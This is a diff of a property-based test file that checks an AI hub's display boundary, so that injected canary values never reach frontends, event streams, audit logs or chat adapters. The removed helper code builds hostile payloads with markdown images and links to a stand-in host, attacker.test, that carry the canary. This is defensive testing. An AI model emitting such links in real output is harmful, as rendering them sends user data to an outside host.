@@ -7,50 +7,11 @@
  * audit log), no server-sent event, and no chat adapter's text (OpenAI-compatible, AI SDK).
  * Control: with the boundary off (an RPC-only option) the same visor refusals show it.
  */
-import { env } from "cloudflare:workers";
 import fc from "fast-check";
 import { describe, expect, it } from "vitest";
-import type { HubDO } from "../../src/objects/hub/index.ts";
-import { hubObjectName } from "../../src/objects/names.ts";
-import { rpc } from "../../src/objects/rpc.ts";
+import { badAnswer, canaries, expectNone, leftBy, run } from "./boundary-kit.ts";
 import { demoApps } from "./demo.ts";
-import { api } from "./helpers.ts";
-import {
-  answer,
-  display,
-  type HubWorld,
-  hubWorld,
-  lit,
-  nextConsent,
-  openSession,
-  ref,
-  script,
-  settle,
-  tool,
-} from "./hub-kit.ts";
-
-/** A canary: nothing else in a run contains it. */
-const canaries = fc.stringMatching(/^[a-z0-9]{10}$/).map((s) => `cnry${s}`);
-
-/** A JSON value carrying the canary everywhere it can go: as a value, a key, a link, an image, nested. */
-const hostile = (c: string) =>
-  fc.letrec((tie) => ({
-    node: fc.oneof(
-      { depthSize: "small", withCrossShrink: true },
-      fc.constantFrom(c, `![s](https://attacker.test/p?d=${c})`, `[open](https://attacker.test/${c})`),
-      fc.integer(),
-      fc.array(tie("node"), { maxLength: 3 }),
-      fc.dictionary(fc.constantFrom(c, `${c}.x`, "note"), tie("node"), { maxKeys: 3 }),
-    ),
-  })).node;
-
-/** An answer the app's schema ({note: string}, nothing else) refuses, with the canary in it. */
-const badAnswer = (c: string) =>
-  fc.record({
-    note: fc.oneof(fc.integer(), fc.array(hostile(c), { maxLength: 2 }), fc.constant({ [c]: c })),
-    [c]: hostile(c),
-    nested: fc.dictionary(fc.constant(c), hostile(c), { maxKeys: 1 }),
-  });
+import { display, type HubWorld, hubWorld, lit, ref, script, tool } from "./hub-kit.ts";
 
 type Path = {
   name: string;
@@ -147,75 +108,6 @@ async function world(plan: unknown): Promise<HubWorld> {
   return w;
 }
 
-/** One run: a new session, the query over RPC (so the control can switch the boundary off), settled. */
-async function run(w: HubWorld, path: Path, boundary: "on" | "off"): Promise<{ sid: string; qid: string }> {
-  const sid = await openSession(w);
-  const hub = rpc<HubDO>(env.HUB.getByName(hubObjectName(w.tenant.tenantId, sid)));
-  const started = await hub.startQuery("Mail Dana a status update", null, { boundary });
-  if (!started.ok) throw new Error(started.code);
-  const qid = started.query.id;
-  if (path.allow) await answer(w, sid, (await nextConsent(w, sid)).id, { decision: "allow" });
-  const q = await settle(w, sid, qid);
-  expect(q.status, JSON.stringify(q.error)).toBe(path.expected);
-  return { sid, qid };
-}
-
-/** The session's server-sent events, read until the query's end. */
-async function events(w: HubWorld, sid: string): Promise<string> {
-  const res = await api("GET", `/v1/sessions/${sid}/events`, { key: w.frontend, stream: true });
-  const reader = res.response.body!.getReader();
-  const decoder = new TextDecoder();
-  let text = "";
-  while (!text.includes("query_finished")) {
-    const { value, done } = await reader.read();
-    if (done) break;
-    text += decoder.decode(value);
-  }
-  await reader.cancel();
-  return text;
-}
-
-/** What each chat adapter says of the query: a new turn reports on the query it is owed. */
-async function chats(w: HubWorld, sid: string, qid: string): Promise<string[]> {
-  const hub = rpc<HubDO>(env.HUB.getByName(hubObjectName(w.tenant.tenantId, sid)));
-  const headers = { "X-Lattice-Session": sid };
-  await hub.oweTurn(qid);
-  const openai = await api("POST", "/v1/openai/chat/completions", {
-    key: w.frontend,
-    headers,
-    body: { model: "lattice", user: "alice", messages: [{ role: "user", content: "and?" }] },
-  });
-  expect(openai.status, JSON.stringify(openai.body)).toBe(200);
-  await hub.oweTurn(qid);
-  const aiSdk = await api("POST", "/v1/ai-sdk/chat", {
-    key: w.frontend,
-    headers,
-    body: {
-      id: "chat-1",
-      user: "alice",
-      messages: [{ id: "m1", role: "user", parts: [{ type: "text", text: "and?" }] }],
-    },
-  });
-  expect(aiSdk.status, JSON.stringify(aiSdk.body)).toBe(200);
-  return [JSON.stringify(openai.body), String(aiSdk.body)];
-}
-
-/** Everything that left for a frontend or the audit log after the run. */
-async function leftBy(w: HubWorld, sid: string, qid: string): Promise<Record<string, string>> {
-  const query = await api("GET", `/v1/sessions/${sid}/queries/${qid}`, { key: w.frontend });
-  const consents = await api("GET", `/v1/sessions/${sid}/consents`, { key: w.frontend });
-  const audit = await api("GET", "/v1/admin/audit?limit=500", { key: w.tenant.adminKey });
-  const [openai, aiSdk] = await chats(w, sid, qid);
-  return {
-    query: JSON.stringify(query.body),
-    consents: JSON.stringify(consents.body),
-    audit: JSON.stringify(audit.body),
-    events: await events(w, sid),
-    openai: openai!,
-    aiSdk: aiSdk!,
-  };
-}
-
 const RUNS = 2;
 
 describe("the display boundary, as a property", () => {
@@ -228,8 +120,7 @@ describe("the display boundary, as a property", () => {
           async ([c, value]) => {
             await path.arrange(w, c, value);
             const { sid, qid } = await run(w, path, "on");
-            const left = await leftBy(w, sid, qid);
-            for (const [where, text] of Object.entries(left)) expect(text, where).not.toContain(c);
+            expectNone(await leftBy(w, sid, qid), c);
           },
         ),
         { numRuns: RUNS },
